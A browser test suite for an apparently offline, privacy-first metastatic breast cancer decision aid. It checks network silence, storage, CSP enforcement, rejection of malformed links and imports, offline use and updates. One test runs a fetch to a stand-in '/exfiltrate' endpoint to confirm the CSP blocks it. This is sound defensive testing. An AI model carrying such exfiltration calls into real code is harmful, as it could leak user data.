// Private, offline-first, safe with bad input (issue: privacy). Every request
// is recorded; after the initial load there must be none at all.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, mkdtempSync, cpSync, appendFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  openApp, enterCase, caseInAddress, fragmentOf, DIST,
  example, useBrowserAndServer, printing,
} from './harness.mjs';
import { serve } from '../../scripts/serve.mjs';

const env = await useBrowserAndServer();

test('no request after load: a full case, every panel, print and export', async () => {
  const context = await env.browser.newContext({ acceptDownloads: true });
  const { page, watch } = await openApp(context, env.srv.url);
  try {
    await enterCase(page, await example('hepatic_impairment_excludes_docetaxel'));
    await page.click('[data-node="t.chemo"]');
    for (const d of await page.$$('details')) await d.evaluate((el) => (el.open = true));
    await page.click('#nav-about');
    await page.click('#nav-clinician');
    await printing(page);
    await page.pdf();
    await printing(page, false);
    const download = page.waitForEvent('download');
    await page.click('#export');
    await (await download).path();
    await page.waitForTimeout(300);
    const after = watch.requests.filter((r) => r.afterLoad && !r.url.startsWith('blob:') && !r.url.startsWith('data:'));
    assert.deepEqual(after, [], 'requests after the initial load');
    assert.deepEqual(watch.requests.filter((r) => !r.url.startsWith(env.srv.origin)), [], 'requests to another origin');
    const stored = await page.evaluate(async () => ({
      local: localStorage.length,
      session: sessionStorage.length,
      cookie: document.cookie,
      idb: (await indexedDB.databases()).length,
    }));
    assert.deepEqual(stored, { local: 0, session: 0, cookie: '', idb: 0 }, 'nothing stored');
  } finally {
    await context.close();
  }
});

test('the Content-Security-Policy blocks a fetch to another origin, and the page has no inline code', async () => {
  const context = await env.browser.newContext();
  const { page } = await openApp(context, env.srv.url);
  try {
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    for (const d of ["default-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'", "'wasm-unsafe-eval'"]) {
      assert.ok(csp.includes(d), d);
    }
    assert.ok(!csp.includes('unsafe-inline') && !csp.includes("'unsafe-eval'"), csp);
    const outcome = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      let result;
      try {
        await fetch('http://127.0.0.2:9/exfiltrate');
        result = 'sent';
      } catch {
        result = 'blocked';
      }
      await new Promise((r) => setTimeout(r, 100));
      return { result, violations };
    });
    assert.equal(outcome.result, 'blocked');
    assert.ok(outcome.violations.some((v) => v.startsWith('connect-src')), JSON.stringify(outcome));
    const inline = await page.evaluate(() => ({
      scripts: [...document.querySelectorAll('script:not([src])')].length,
      handlers: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name)),
    }));
    assert.deepEqual(inline, { scripts: 0, handlers: [] });
  } finally {
    await context.close();
  }
});

test('clear everything resets the form, the address and its history entry', async () => {
  const context = await env.browser.newContext();
  const { page } = await openApp(context, env.srv.url);
  try {
    const before = await page.evaluate(() => history.length);
    await page.selectOption('#q-her2', 'negative');
    await page.selectOption('#q-er', 'positive');
    await page.waitForFunction(() => location.hash.startsWith('#case='));
    await page.click('#clear');
    await page.waitForFunction((url) => location.href === url, env.srv.url);
    assert.equal(await page.inputValue('#q-her2'), 'unknown');
    assert.equal(await page.evaluate(() => history.length), before, 'no history entries were added');
  } finally {
    await context.close();
  }
});

test('export and import round-trip the case through a local file', async () => {
  const context = await env.browser.newContext({ acceptDownloads: true });
  const { page } = await openApp(context, env.srv.url + fragmentOf(await example('post_progressed_on_letrozole')));
  try {
    const original = await caseInAddress(page);
    const download = page.waitForEvent('download');
    await page.click('#export');
    const file = await (await download).path();
    assert.deepEqual(JSON.parse(readFileSync(file, 'utf8')), original);
    await page.click('#clear');
    await page.setInputFiles('#import', file);
    await page.waitForFunction(() => location.hash.startsWith('#case='));
    assert.deepEqual(await caseInAddress(page), original);
  } finally {
    await context.close();
  }
});

const b64 = (s) => Buffer.from(s).toString('base64url');
const BAD_LINKS = [
  ['not base64url', '#case=!!!not-base64!!!', /damaged \(cut short or changed\), so none of its entries could be read/],
  ['not JSON', '#case=' + b64('{"her2": '), /damaged/],
  ['a list of the wrong type', '#case=' + b64('{"er": "positive", "sites": "bone"}'), /Sites of metastasis: expected a list or null, found the string "bone"/],
  ['an unreadable prior therapy', '#case=' + b64('{"er": "positive", "chemo_history": [{"agent": "tamoxifen"}]}'), /Prior chemotherapy, row 1, agent: /],
  ['deep nesting', '#case=' + b64('['.repeat(5000)), /damaged/],
];

for (const [what, hash, message] of BAD_LINKS) {
  test(`a link with ${what} is refused with a clear message and the current case kept`, async () => {
    const context = await env.browser.newContext();
    const { page, watch } = await openApp(context, env.srv.url);
    try {
      await page.selectOption('#q-her2', 'negative');
      await page.selectOption('#q-er', 'negative');
      const kept = await caseInAddress(page);
      await page.evaluate((h) => (location.hash = h), hash);
      await page.waitForSelector('[data-testid="problem"]:not([hidden])');
      assert.match(await page.textContent('[data-testid="problem"]'), message);
      assert.equal(await page.inputValue('#q-er'), 'negative');
      assert.deepEqual(await caseInAddress(page), kept, 'the address holds the current case again');
      assert.deepEqual(watch.errors, []);
    } finally {
      await context.close();
    }
  });
}

test('a bad link on first load leaves an empty, usable form', async () => {
  const context = await env.browser.newContext();
  const { page } = await openApp(context, env.srv.url + '#case=' + b64('{"her2": '));
  try {
    assert.match(await page.textContent('[data-testid="problem"]'), /could not be read — it is damaged.*The form starts empty/);
    await page.selectOption('#q-her2', 'negative');
    assert.equal(await page.getAttribute('[data-node="w.her2_neg"]', 'data-on-path'), 'true');
  } finally {
    await context.close();
  }
});

const PARTLY_READ = [
  ['a misspelt field', { visceral_crsis: 'yes' }, /an entry this app does not know was left out/],
  ['an out-of-range number', { age: 300 }, /Age \(years\): 300 is out of range; expected 18–120/],
  ['a value not among the choices', { her2: 'maybe' }, /HER2 status: "maybe" is not allowed/],
];

for (const [what, bad, message] of PARTLY_READ) {
  for (const when of ['on first load', 'pasted later']) {
    test(`a link with ${what} (${when}) loads every other field, leaves that one unknown and keeps the address`, async () => {
      const context = await env.browser.newContext();
      const good = { her2: 'negative', er: 'positive', pr: 'negative', menopause: 'post', ecog: 1 };
      const hash = '#case=' + b64(JSON.stringify({ ...good, ...bad }));
      const { page } = await openApp(context, env.srv.url + (when === 'on first load' ? hash : ''));
      try {
        if (when === 'pasted later') await page.evaluate((h) => (location.hash = h), hash);
        await page.waitForSelector('[data-testid="problem"]:not([hidden])');
        const text = await page.textContent('[data-testid="problem"]');
        assert.match(text, message);
        assert.match(text, /left unknown/);
        assert.doesNotMatch(text, /expected one of|EOF/);
        assert.equal(await page.inputValue('#q-er'), 'positive');
        assert.equal(await page.inputValue('#q-menopause'), 'post');
        await page.waitForTimeout(400);
        assert.equal(await page.evaluate(() => location.hash), hash, 'the address stays as given');
        await page.selectOption('#q-pr', 'positive');
        const now = await caseInAddress(page);
        const read = Object.fromEntries(Object.entries(good).filter(([k]) => !(k in bad)));
        assert.deepEqual(now, { ...read, pr: 'positive' }, 'after a change the address holds the case as read');
      } finally {
        await context.close();
      }
    });
  }
}

const BAD_FILES = [
  ['megabytes of data', JSON.stringify({ sites: Array(200000).fill('bone') }), /at most 256 KB/],
  ['a list instead of a case', '[1, 2, 3]', /does not hold a case/],
  ['a wrong exposure', '{"chemo_history": [{"agent": "tamoxifen", "setting": "adjuvant", "outcome": "completed"}]}', /Prior chemotherapy, row 1, agent/],
];

for (const [what, content, message] of BAD_FILES) {
  test(`an import with ${what} is refused with a clear message and the current case kept`, async () => {
    const context = await env.browser.newContext();
    const { page } = await openApp(context, env.srv.url);
    try {
      await page.selectOption('#q-her2', 'negative');
      const kept = await caseInAddress(page);
      await page.setInputFiles('#import', { name: 'case.json', mimeType: 'application/json', buffer: Buffer.from(content) });
      await page.waitForSelector('[data-testid="problem"]:not([hidden])');
      assert.match(await page.textContent('[data-testid="problem"]'), message);
      assert.deepEqual(await caseInAddress(page), kept);
    } finally {
      await context.close();
    }
  });
}

test('a panic shows a readable error with a way to reload, not a frozen page', async () => {
  const context = await env.browser.newContext();
  const { page } = await openApp(context, env.srv.url);
  try {
    await page.evaluate(() => {
      try {
        window.wasmBindings.self_test_panic();
      } catch {
        // the module traps after the hook has run
      }
    });
    await page.waitForSelector('[data-testid="failure"]');
    assert.match(await page.textContent('[data-testid="failure"]'), /internal error/);
    assert.ok(await page.isVisible('#failure-reload'));
  } finally {
    await context.close();
  }
});

/// Waits until the service worker controls the page.
async function controlled(page) {
  await page.evaluate(() => navigator.serviceWorker.ready);
  if (!(await page.evaluate(() => !!navigator.serviceWorker.controller))) {
    await page.waitForFunction(() => !!navigator.serviceWorker.controller, null, { timeout: 10000 });
  }
}

test('after one visit the app loads and works with the network off', async () => {
  const context = await env.browser.newContext();
  const { page } = await openApp(context, env.srv.url);
  try {
    await controlled(page);
    await context.setOffline(true);
    await page.reload();
    await page.waitForSelector('[data-testid="app-ready"]');
    await page.selectOption('#q-her2', 'negative');
    await page.selectOption('#q-er', 'negative');
    await page.selectOption('#q-pr', 'negative');
    assert.equal(await page.getAttribute('[data-node="t.tnbc"]', 'data-on-path'), 'true');
    assert.ok(await page.isVisible('[data-option="clinical_trial"][data-role="preferred"]'));
  } finally {
    await context.close();
  }
});

test('a new version waits for the user to choose to reload', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'mbc-aid-dist-'));
  cpSync(DIST, dir, { recursive: true });
  const server = await serve({ dir });
  const url = `http://127.0.0.1:${server.address().port}/`;
  const context = await env.browser.newContext();
  try {
    const { page } = await openApp(context, url + fragmentOf({ her2: 'negative' }));
    await controlled(page);
    await page.evaluate(() => (window.__sameDocument = true));
    appendFileSync(join(dir, 'sw.js'), '\n// a newer build\n');
    for (const ext of ['.br', '.gz']) rmSync(join(dir, 'sw.js' + ext), { force: true });
    await page.evaluate(async () => (await navigator.serviceWorker.getRegistration()).update());
    await page.waitForSelector('[data-testid="update-ready"]:not([hidden])', { timeout: 15000 });
    assert.equal(await page.evaluate(() => window.__sameDocument), true, 'no reload on its own');
    await Promise.all([page.waitForEvent('load'), page.click('#apply-update')]);
    await page.waitForSelector('[data-testid="app-ready"]');
    assert.equal(await page.evaluate(() => window.__sameDocument), undefined, 'reloaded on request');
    assert.equal(await page.inputValue('#q-her2'), 'negative', 'the case survives the update');
  } finally {
    await context.close();
    server.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the app is installable: a manifest with icons', async () => {
  const manifest = JSON.parse(readFileSync(join(DIST, 'manifest.webmanifest'), 'utf8'));
  assert.equal(manifest.display, 'standalone');
  for (const icon of manifest.icons) assert.ok(readFileSync(join(DIST, icon.src)).length > 100, icon.src);
  assert.ok(manifest.icons.some((i) => i.sizes === '512x512'));
});
